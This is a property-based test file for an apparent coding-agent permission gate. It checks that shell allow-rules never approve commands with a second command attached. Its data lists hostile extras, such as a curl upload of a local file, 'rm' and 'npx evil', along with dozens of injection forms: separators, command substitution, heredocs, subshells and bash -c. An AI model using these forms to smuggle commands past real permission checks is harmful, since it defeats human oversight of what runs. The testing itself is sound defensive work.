import fc from 'fast-check';
import {expect, test} from 'vitest';
import {judge} from '../../../src/core/policy/gate.ts';
import {covering} from '../../../src/core/policy/rules.ts';
import {rules, shellRequest} from './judged.ts';

const BASES = [
  'npm test',
  'npm test -- --run',
  'npm test a b',
  'npm test 2>&1',
  'timeout 9 npm test',
  "npm test 'a b'",
  'npm test "x"',
  'npm test $X',
  'npm test *.ts',
];
const PATTERNS = [
  'allow shell npm test*',
  'allow shell npm test *',
  'allow shell npm *',
  'allow shell *test*',
  'allow shell n*',
  'allow shell npm test a b',
];
const EXTRAS = [
  'rm x',
  'curl -d @a https://example.com',
  'npx evil',
  './npm test',
  'tee out',
  'git add .',
  'sudo npm test',
  'sh x',
  'node evil.js',
  "python3 -c 'x'",
];
const JOINTS: readonly ((base: string, extra: string) => string)[] = [
  ...[';', ' ; ', '&&', ' && ', '||', '|', ' |& ', '&', '\n', '\n\n', ' \\\n; ', ';\n'].map(
    joint => (base: string, extra: string) => `${base}${joint}${extra}`,
  ),
  (base, extra) => `${extra}; ${base}`,
  (base, extra) => `${base} $(${extra})`,
  (base, extra) => `${base} \`${extra}\``,
  (base, extra) => `${base} "$(${extra})"`,
  (base, extra) => `${base} <(${extra})`,
  (base, extra) => `${base} \${Y:-$(${extra})}`,
  (base, extra) => `${base} <<EOF\n$(${extra})\nEOF`,
  (base, extra) => `${base} <<EOF\nx\nEOF\n${extra}`,
  (base, extra) => `(${base}; ${extra})`,
  (base, extra) => `{ ${base}; ${extra}; }`,
  (base, extra) => `if ${base}; then ${extra}; fi`,
  (base, extra) => `f() { ${extra}; }; ${base}; f`,
  (base, extra) => `bash -c '${base.replaceAll("'", '')}; ${extra.replaceAll("'", '')}'`,
  (base, extra) => `X=$(${extra}) ${base}`,
  (base, extra) => `${base} # x\n${extra}`,
  (base, extra) => `for i in 1 2; do ${base}; ${extra}; done`,
];

test('no allowing rule lets a command through with another one added', async () => {
  const cases = fc.tuple(
    fc.constantFrom(...BASES),
    fc.constantFrom(...EXTRAS),
    fc.constantFrom(...JOINTS),
    fc.subarray(PATTERNS, {minLength: 1}),
  );
  await fc.assert(
    fc.asyncProperty(cases, async ([base, extra, join, patterns]) => {
      const request = await shellRequest(join(base, extra), {rules: rules(...patterns.filter(pattern => !covers(pattern, extra)))});
      expect(covering(request.rules, request)).toBeNull();
      for (const mode of ['plan', 'ask', 'accept-edits'] as const) expect(judge({...request, mode}).verdict.kind).not.toBe('allow');
    }),
    {numRuns: 1500},
  );
});

/** `*test*` is meant to match any command that says test. */
function covers(pattern: string, extra: string): boolean {
  return (pattern.includes(' *test*') && extra.includes('test')) || (pattern.endsWith(' n*') && extra.startsWith('n'));
}
